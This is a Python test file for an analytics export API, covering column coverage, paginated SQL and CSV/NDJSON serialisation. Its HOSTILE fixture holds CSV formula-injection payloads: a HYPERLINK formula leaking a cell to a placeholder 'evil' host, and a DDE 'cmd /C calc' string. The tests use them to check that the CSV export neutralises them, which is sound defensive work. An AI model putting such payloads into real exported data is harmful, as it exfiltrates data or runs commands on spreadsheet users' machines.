"""The export's columns cover every field of the contract; its CSV cells and NDJSON lines (pure)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import orjson

from schemas.event_models import EVENT_MODELS
from schemas.type_columns import TYPE_COLUMNS
from views_api.csv_cells import csv_text
from views_api.queries import EVENT_COLUMNS
from views_api.queries.export import BASE_FIELDS, EXPORT_COLUMNS, EXPORT_HEADER, export_page
from views_api.routes.export import HEADER, csv_row, ndjson_line
from views_api.routes.usage import audio_minutes

TS = datetime(2026, 3, 17, 9, tzinfo=UTC)


def column_of(type_: str, field: str) -> str:
    """The export column holding `field` of events of `type_`."""
    if field == "type":
        return "type"
    if field in BASE_FIELDS:
        return BASE_FIELDS[field]
    (column,) = [s.column for s in TYPE_COLUMNS[type_] if field in s.fields]
    return column


def test_every_field_of_every_event_type_is_an_export_column() -> None:
    for model in EVENT_MODELS:
        type_ = model.model_fields["type"].annotation.__args__[0]  # type: ignore[union-attr]
        for field in model.model_fields:
            assert column_of(type_, field) in EXPORT_HEADER, (type_, field)
    new = ("audio_seconds", "error_type", "product_category", "attributed_session_id", "comment_chars")
    assert set(new) | {"dimensions", "measures", "properties", "tenant_id", "schema_version"} <= set(EXPORT_HEADER)
    assert len(set(EXPORT_HEADER)) == len(EXPORT_HEADER) == len(HEADER)


def test_the_drill_down_columns_come_first_in_their_order() -> None:
    assert EXPORT_COLUMNS[: len(EVENT_COLUMNS)] == EVENT_COLUMNS
    assert EXPORT_HEADER[:3] == ("id", "type", "ts")


def test_a_page_reads_every_export_column_after_the_cursor() -> None:
    q = export_page("db", "acme", TS, TS.replace(day=18), (TS, "7b1b7a2e-6f1e-4a55-9a57-2f8f3c7f4d10"), 10)
    assert q.sql.startswith("SELECT\n    toString(event_id) AS id,\n    type,\n    ts,")
    assert (
        ",\n    dimensions,\n    measures,\n    tenant_id,\n    schema_version,\n    properties\nFROM db.events FINAL"
        in q.sql
    )
    assert "AND (ts, event_id) > ({after_ts:DateTime64(3)}, toUUID({after_id:String}))" in q.sql
    assert q.params["after_ts"] == "2026-03-17 09:00:00.000" and q.params["limit"] == 10


def event_row(**values: Any) -> dict[str, Any]:
    row: dict[str, Any] = {c: "" for c in HEADER} | {"dimensions": {}, "measures": {}, "properties": {}}
    return row | {"id": "e-1", "ts": TS, "tenant_id": "acme", "schema_version": 1, **values}


HOSTILE = event_row(
    type="custom",
    name="site.built",
    dimensions={"status": "failed", "site_type": '=HYPERLINK("http://evil/?"&A1)'},
    measures={"pages": 3.0, "duration_s": 12.5},
    properties={"plan": "pro"},
    product_category="=cmd|' /C calc'!A0",
    revenue=Decimal("129.900000000000"),
    audio_seconds=90.0,
)


def test_a_csv_row_holds_maps_as_json_text_and_formulas_quoted() -> None:
    (cells,) = list(csv.reader(io.StringIO(csv_text([csv_row(HOSTILE)]))))
    got = dict(zip(HEADER, cells, strict=True))
    assert got["dimensions"] == '{"site_type":"=HYPERLINK(\\"http://evil/?\\"&A1)","status":"failed"}'
    assert orjson.loads(got["measures"]) == {"duration_s": 12.5, "pages": 3.0}
    assert got["properties"] == '{"plan":"pro"}'
    assert got["product_category"] == "'=cmd|' /C calc'!A0"  # the guard of views_api.csv_cells
    assert (got["revenue"], got["audio_seconds"], got["ts"]) == ("129.900000000000", "90.0", "2026-03-17T09:00:00Z")
    empty = dict(zip(HEADER, next(csv.reader(io.StringIO(csv_text([csv_row(event_row())])))), strict=True))
    assert (empty["dimensions"], empty["measures"], empty["properties"]) == ("{}", "{}", "{}")


def test_an_ndjson_line_holds_maps_as_objects_and_money_as_a_string() -> None:
    line = ndjson_line(HOSTILE)
    assert line.endswith(b"}\n") and line.count(b"\n") == 1
    doc = orjson.loads(line)
    assert list(doc) == HEADER
    assert doc["dimensions"] == {"status": "failed", "site_type": '=HYPERLINK("http://evil/?"&A1)'}
    assert (doc["revenue"], doc["ts"], doc["audio_seconds"]) == ("129.900000000000", "2026-03-17T09:00:00Z", 90.0)
    assert doc["product_category"] == "=cmd|' /C calc'!A0"  # JSON is data, not a spreadsheet


def test_audio_minutes_are_seconds_over_sixty_to_four_places() -> None:
    assert (audio_minutes(135.0), audio_minutes(0.0), audio_minutes(1.0), audio_minutes(12.75)) == (
        2.25,
        0.0,
        0.0167,
        0.2125,
    )
